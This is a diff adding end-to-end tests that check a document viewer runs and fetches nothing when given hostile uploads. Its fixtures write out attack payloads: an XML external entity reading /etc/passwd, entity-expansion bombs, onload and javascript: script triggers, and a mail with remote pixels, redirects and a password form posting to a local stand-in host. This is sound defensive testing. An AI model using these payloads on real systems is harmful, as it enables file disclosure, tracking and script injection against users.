@@ -1,4 +1,7 @@
-import { pdfFile } from "./support/papers.ts";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { writeDocx } from "#scenario/papers/write-files.ts";
+import { hostilePdf, pdfFile } from "./support/papers.ts";
 import { api, expect, readArrival, signIn, test } from "./support/world.ts";
 
 test("a number is found however it is spelt, narrowed by filters, and the address shows the same again", async ({ page }) => {
@@ -90,4 +93,103 @@ test("tables, mails, text and what has no view are shown without running anythin
     expect(content.headers()["x-content-type-options"], name).toBe("nosniff");
   }
   expect(ran).toBe(false);
+});
+
+test("hostile papers run nothing, fetch nothing and lead nowhere: pages with scripts, pictures that load, mails that call home, a locked-up sign-in form", async ({
+  page,
+  request,
+  baseURL,
+}) => {
+  let called = 0;
+  const home = createServer((_, answer) => {
+    called++;
+    answer.end("home");
+  });
+  await new Promise<void>((go) => home.listen(0, "127.0.0.1", go));
+  const outside = `http://127.0.0.1:${(home.address() as AddressInfo).port}`;
+  let ran = false;
+  await page.exposeFunction("ranFromPaper", () => {
+    ran = true;
+  });
+  const strange: string[] = [];
+  page.on("request", (r) => {
+    if (!r.url().startsWith(baseURL ?? "") && !/^(data|blob):/.test(r.url())) strange.push(r.url());
+  });
+  page.on("dialog", (d) => {
+    ran = true;
+    void d.dismiss();
+  });
+  const mail = (body: string): string =>
+    `From: a@b.example\r\nTo: c@d.example\r\nSubject: Hello\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}<p>Mailed words</p>`;
+  const entity = `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "${outside}/dtd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`;
+  const papers: readonly (readonly [name: string, mimeType: string, bytes: Buffer, seen: string])[] = [
+    ["script.pdf", "application/pdf", await hostilePdf(outside), "Innocent page"],
+    [
+      "calls.eml",
+      "message/rfc822",
+      Buffer.from(
+        mail(
+          `<meta http-equiv="refresh" content="0;url=${outside}/away"><base href="${outside}"><link rel="stylesheet" href="${outside}/s.css"><img src="${outside}/pixel.png"><iframe src="${outside}/frame"></iframe><form action="${outside}/take"><input name="password"></form><svg onload="ranFromPaper()"></svg><a href="javascript:ranFromPaper()">click</a><style>@import "${outside}/i.css"; body{background:url(${outside}/b.png)}</style>`,
+        ),
+      ),
+      "Mailed words",
+    ],
+    [
+      "drawing.svg",
+      "image/svg+xml",
+      Buffer.from(
+        `<?xml version="1.0"?>${entity}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="ranFromPaper()"><image xlink:href="${outside}/i.png"/><use xlink:href="${outside}/u.svg#x"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/f"/></foreignObject><script>ranFromPaper()</script><text>&f;&h;&b; drawn words</text></svg>`,
+      ),
+      "drawn words",
+    ],
+    [
+      "page.html",
+      "text/html",
+      Buffer.from(
+        `<!doctype html><html><head><script src="${outside}/s.js"></script><meta http-equiv="refresh" content="0;url=${outside}"></head><body onload="ranFromPaper()"><object data="${outside}/o"></object><embed src="${outside}/e"><video src="${outside}/v" autoplay></video><p>Hypertext words</p></body></html>`,
+      ),
+      "Hypertext words",
+    ],
+  ];
+  try {
+    await signIn(page, "administrator");
+    for (const [name, mimeType, buffer, seen] of papers) {
+      const { id } = (await (await api(request).upload({ name, mimeType, buffer })).json()) as { id: string };
+      await readArrival(request, id);
+      await page.goto(`/arrivals?at=${id}`);
+      await expect(page.locator(".viewer"), name).toContainText(seen);
+      const words = (await page.locator(".viewer").textContent()) ?? "";
+      expect(words, name).not.toContain("root:x:");
+      // Opened by its own address it is a download, in a box that may do nothing.
+      const content = await api(request).get(`/arrivals/${id}/content`);
+      expect(content.headers()["content-disposition"], name).toContain("attachment");
+      expect(content.headers()["content-security-policy"], name).toContain("sandbox");
+    }
+    // Whatever a paper had begun was begun before this page is there.
+    await page.goto("/desk");
+    await expect(page.locator("h1")).toBeVisible();
+    expect(strange).toEqual([]);
+    expect(ran).toBe(false);
+    expect(called).toBe(0);
+  } finally {
+    await new Promise((go) => home.close(go));
+  }
+});
+
+test("a Word file is shown by its text at once and as pages a moment later, with words that can be found on them", async ({
+  page,
+  request,
+}) => {
+  const { id } = (await (
+    await api(request).upload({
+      name: "contract.docx",
+      mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+      buffer: Buffer.from(await writeDocx(["Contract of employment", "Rank: Bosun of the quay"])),
+    })
+  ).json()) as { id: string };
+  await signIn(page, "administrator", `/arrivals?at=${id}`);
+  const viewer = page.locator(".viewer");
+  await expect(viewer.locator("img[alt='Page 1']")).toBeVisible({ timeout: 60_000 });
+  await expect(viewer.locator("[data-page='1'] .word", { hasText: "Bosun" })).toHaveCount(1);
+  expect(await (await api(request).get(`/arrivals/${id}/pages/1.png?width=480`)).body()).toBeTruthy();
 });
